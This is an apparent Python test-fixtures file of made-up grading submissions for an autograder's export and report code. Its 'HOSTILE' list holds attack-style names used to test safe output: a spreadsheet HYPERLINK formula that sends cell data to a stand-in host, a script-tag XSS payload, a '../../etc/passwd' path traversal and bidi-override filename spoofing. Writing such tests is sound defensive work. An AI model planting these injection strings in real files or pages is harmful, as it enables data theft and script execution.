"""Graded submissions, made up: what exports and reports are tested on without grading anybody."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime

from autograder.judging.verdicts import FAILED, NOT_JUDGED, PASSED, CheckResult, Row, Verdict
from autograder.report.records import NOBODY, PERSON, Answer, NotebookRecord, Printed, Submission, Took

# Names that somebody might give, to themselves or to a file: formulas, ends of cells, lines and files, marks that
# turn text around, characters that XML lacks, halves of characters, ends of a script.
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"grades")', "@SUM(A1)", "-2+3", "Doe,=1+1", "Doe;=1+1", 'a"b', "a'b",
    "one\ntwo", "one\r\ntwo", "\ttab", "\x00\x01\x1b[31m", "\u202egnp.exe", "\u2066\u2069", "👩🏽‍🚀", "李", "\ud800",
    "\ufffe\uffff", "</script><script>alert(1)</script>", "]]>", "<!--", "&amp;", "\u2028", "Points Possible",
    "../../etc/passwd", ".", "..", "CON", "", " ", "x" * 100,
]  # fmt: skip

ROWS = (Row("1", "Conv2D, 28 × 28 × 6", "Conv2D, 24 × 24 × 6", False), Row("2", "—", "MaxPooling2D", False))


def check(name: str, outcome: str = PASSED, points: float = 2.0, **more) -> CheckResult:
    earned = more.pop("earned", points if outcome == PASSED else 0.0)
    return CheckResult(f"test_{name}", f"The {name} is right.", points, outcome, earned, **more)


def graded(id: str, *checks: CheckResult, **more) -> Answer:
    """An exercise with the points that its checks gave, and whatever else is said of its verdict or answer."""
    points = sum(one.points for one in checks)
    about = {name: more.pop(name) for name in ("attempted", "review", "figures") if name in more}
    verdict = Verdict(id, f"Title of {id}", points, checks, **about)
    waits = more.pop("waits", verdict.flagged)
    return Answer(
        id,
        verdict.title,
        verdict.score + more.get("extra", 0.0),
        points,
        waits=waits,
        verdict=verdict,
        **more,
    )


PASSES = graded("passes", check("size"), check("rest"))
FAILS = graded(
    "fails",
    check("shape", FAILED, help="The first layer was padded.", rows=ROWS),
    check("sum", FAILED, earned=0.5),
)
KEPT_BACK = graded("kept_back", check("other input", FAILED, help="On 7 it gives 8.", rows=ROWS, hidden=True))
CRASHES = graded("crashes", check("end", NOT_JUDGED, help="The kernel ended."))
DOUBTED = graded("doubted", check("weights"), review="Like the public network.", figures={"accuracy": 0.9})
UNREAD = Answer("essay", "essay", 0.0, 6.0, by=NOBODY, waits=True, written="Because =1+1.")
READ = replace(UNREAD, score=4.5, by=PERSON, waits=False)
EMPTY = replace(UNREAD, by="checks", waits=False, written="")
OVERRULED = replace(FAILS, id="overruled", score=4.0, by=PERSON)
EXTRA = graded("extra", check("bonus"), extra=1.5)
ASSERTS = Answer("asserts", "asserts", 3.0, 4.0)  # an assignment of plain asserts


def notebook(name: str, *answers: Answer, **more) -> NotebookRecord:
    return NotebookRecord(name, more.pop("handed_in", True), answers, **more)


def submission(student: str, *notebooks: NotebookRecord, **more) -> Submission:
    return Submission("lenet", student, notebooks, **more)


EVERYTHING = submission(
    "ada",
    notebook("1_build", PASSES, FAILS, KEPT_BACK, CRASHES, notes=("A cell was put back.",)),
    notebook(
        "2_count", UNREAD, OVERRULED, EXTRA,
        late=3.0, comments={"overruled": "Nearly!", "fails_solution": "See me.", "x_solution": "No response."},
    ),
    notebook(
        "3_train", DOUBTED, epochs=({"loss": 0.5, "accuracy": 0.8},), printed=Printed(0.875, "validation"),
        took=Took(12.5, 600, None, 4096),
    ),
    notebook("4_more", ASSERTS),
    first_name="Ada", last_name="Lovelace", email="ada@example.org", lms_id="4711",
    submitted=datetime(2026, 5, 2, 10, 0, 0, 123456),  # noqa: DTZ001 (as the gradebook has it)
)  # fmt: skip
FINAL = submission("bob", notebook("1_build", PASSES), notebook("2_count", READ, EXTRA))
NOTHING = submission(
    "eve",
    notebook("1_build", replace(PASSES, score=0.0, verdict=None), handed_in=False),
    notebook(
        "2_count", *(replace(a, score=0.0, verdict=None, by="checks", extra=0.0) for a in (READ, EXTRA)),
        handed_in=False,
    ),
)  # fmt: skip


def named_so(text: str) -> Submission:
    """A submission in which every word that is not ours is this one."""
    verdict = Verdict(
        text, text, 2.0,
        (CheckResult(text, text, 2.0, FAILED, 0.0, text, (Row(text, text, text, False),)),),
        reason=text, review=text,
    )  # fmt: skip
    answers = (
        Answer(text, text, 0.0, 2.0, waits=True, verdict=verdict),
        Answer(f"{text} 2", text, 1.0, 2.0, by=PERSON, written=text),
    )
    record = NotebookRecord(text, True, answers, (text,), 0.0, {text: text, f"{text} 3": text})
    return Submission(text, text, (record,), text, text, text, None, text)


def class_of(size: int) -> list[Submission]:
    """Students of whom every third waits for a person, every tenth handed in nothing."""
    exercises = [
        graded(f"exercise_{n}", check("first"), check("second", FAILED, help="It is padded.", rows=ROWS))
        for n in range(12)
    ]
    made = []
    for number in range(size):
        there = number % 10 != 9
        essay = UNREAD if number % 3 == 0 and there else replace(READ, written="w" * 500)
        answers = [replace(e, score=0.0, verdict=None) for e in exercises] if not there else exercises
        essay = essay if there else EMPTY
        halves = (
            notebook("1_one", *answers[:6], handed_in=there),
            notebook("2_two", *answers[6:], essay, handed_in=there),
        )
        made.append(submission(f"student{number:05}", *halves, first_name="N", last_name=f"{number}"))
    return made
